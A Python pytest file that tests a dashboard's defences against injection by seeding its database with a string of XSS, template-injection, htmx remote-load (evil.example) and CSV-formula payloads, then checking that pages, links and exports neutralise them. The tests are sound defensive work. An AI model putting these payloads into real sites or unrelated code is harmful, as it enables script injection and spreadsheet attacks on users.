"""Repos, registries, forges and colleagues who mean harm: what they say is shown, and no more."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from io import StringIO
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import Dialog, expect
from sqlalchemy import Connection, select, update

from digestbot.store.database import Database
from digestbot.store.tables import METADATA
from digestbot.web.rendering import static
from tests.service.state import state
from tests.web.asking import TOKENS, asking
from tests.web.browser import chromium, site_of, visiting
from tests.web.fleets import service_on, small
from tests.web.markup import parse
from tests.web.places import paths_on

HARM = (
    "</td></table></title></textarea></script>\"'><img src=x onerror=alert(1)>"
    "<script>alert(1)</script><a href=javascript:alert(1)>{{ 7*7 }}{% x %}"
    "<div hx-get=//evil.example hx-trigger=load data-plot=lines>\u202e\u0000\n=1+1"
)
ICON = static("icon.svg")
SCRIPT_URL = "javascript:alert(1)//"
# What the program itself writes, and reads again as one of the words it knows.
WORDS = {
    "status",
    "state",
    "kind",
    "format",
    "reason",
    "left_out",
    "event",
    "key",
    "digest",
    "new_digest",
    "platform",
    "offer",
    "asked_for",
    "failing_code",
    "settled_rules",
    "pulse",
    "settled_pulse",
    "head",
    "settled_head",
    "tree",
    "plan",
    "verb",
    "why",
}
"""Columns in which no stranger has a say."""


def poison(connection: Connection) -> None:
    """Have strangers say harm wherever they have a say."""
    for table in METADATA.tables.values():
        for column in table.columns:
            kind = type(column.type).__name__
            if column.primary_key or column.name in WORDS or column.name.endswith("_id"):
                continue
            if column.name == "url":
                connection.execute(update(table).values(url=SCRIPT_URL + column.table.name))
            elif kind == "Words":
                connection.execute(update(table).values({column: column + HARM}))
            elif kind == "JSON" and column.name in {"problems", "requests", "counts"}:
                for row in connection.execute(select(*table.primary_key, column)).all():
                    (key,) = table.primary_key
                    told = poisoned(row[1])
                    connection.execute(update(table).where(key == row[0]).values({column: told}))


def poisoned(told: Any) -> Any:
    if isinstance(told, dict):
        return {key: poisoned(value) for key, value in told.items()}
    if isinstance(told, list):
        return [poisoned(one) for one in told]
    return f"{told}{HARM}" if isinstance(told, str) else told


@pytest.fixture(scope="module")
def poisoned_state(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Database]:
    with state(tmp_path_factory.mktemp("state")) as database:
        small(database)
        with database.begin() as connection:
            poison(connection)
        yield database


def addresses(database: Database) -> list[str]:
    """All pages, and what somebody may be sent a link to."""
    # With a line break it is no path of the dashboard at all.
    harm = quote(HARM.replace("\n", ""))
    return [
        *paths_on(database).values(),
        "/login",
        f"/runs/{harm.replace('/', '%2F')}",
        f"/{harm}",
        *(f"{path}?q={harm}" for path in ("/images", "/repos", "/runs", "/settings")),
        f"/about?said={harm}&{harm}={harm}",
        f"/repos?status={harm}",
        f"/login?next={harm}",
        "/login?next=javascript:alert(1)",
    ]


def test_what_harms_is_text_on_every_page(poisoned_state: Database) -> None:
    shown = 0
    with asking(poisoned_state, "operator") as client:
        for address in addresses(poisoned_state):
            answer = client.get(address)
            page = parse(answer.text) if answer.text else None
            shown += answer.text.count("alert(1)")
            if page is None:
                assert answer.headers["location"].partition("?")[0] in {"/", "/login"}
                continue
            pictures = {one["src"] for one in page.all("img")} - {ICON}
            assert all(one.startswith("/badges/repos/") for one in pictures), address
            for element in page.everything():
                assert not [name for name in element.attributes if name.startswith("on")], address
                assert "style" not in element.attributes, address
                assert element.tag != "script" or element["src"].startswith("/static/"), address
                assert not (element.get("hx-get") or "/").startswith("//"), address
                assert (element.get("action") or "/").startswith(("/actions/", "/log", "/")), (
                    address
                )
            assert [one for link in page.all("a") if not is_safe(one := link["href"])] == [], (
                address
            )

    assert shown > 500


def is_safe(href: str) -> bool:
    """Whether a link leads to a page of the dashboard, or to the forge."""
    parts = urlsplit(href)
    if not parts.scheme and not parts.netloc:
        return href.startswith(("/", "#", "?")) and "\\" not in href
    return parts.scheme == "https" and parts.netloc == "github.com"


@pytest.mark.parametrize("scripts", [True, False], ids=["scripts", "no-scripts"])
def test_no_page_does_what_strangers_say(poisoned_state: Database, scripts: bool) -> None:
    app = service_on(poisoned_state)
    expected = ["status of 400", "status of 404"]
    with (
        chromium() as browser,
        site_of(app) as site,
        visiting(
            browser, site, scripts=scripts, token=TOKENS["operator"], expected=expected
        ) as page,
    ):
        said: list[str] = []

        def on_dialog(dialog: Dialog) -> None:
            said.append(dialog.message)
            dialog.dismiss()

        page.on("dialog", on_dialog)
        for address in addresses(poisoned_state):
            page.goto(address)
            expect(page.get_by_role("main")).to_be_visible()

        assert said == []


@pytest.mark.parametrize("name", ["images", "repos", "findings", "proposals", "runs"])
def test_no_cell_of_a_csv_is_a_formula_or_more_than_a_line(
    poisoned_state: Database, name: str
) -> None:
    with asking(poisoned_state) as client:
        text = client.get(f"/exports/{name}.csv").text

    rows = list(csv.reader(StringIO(text, newline=""), strict=True))
    assert len({len(row) for row in rows}) == 1
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
            assert cell.isprintable(), cell
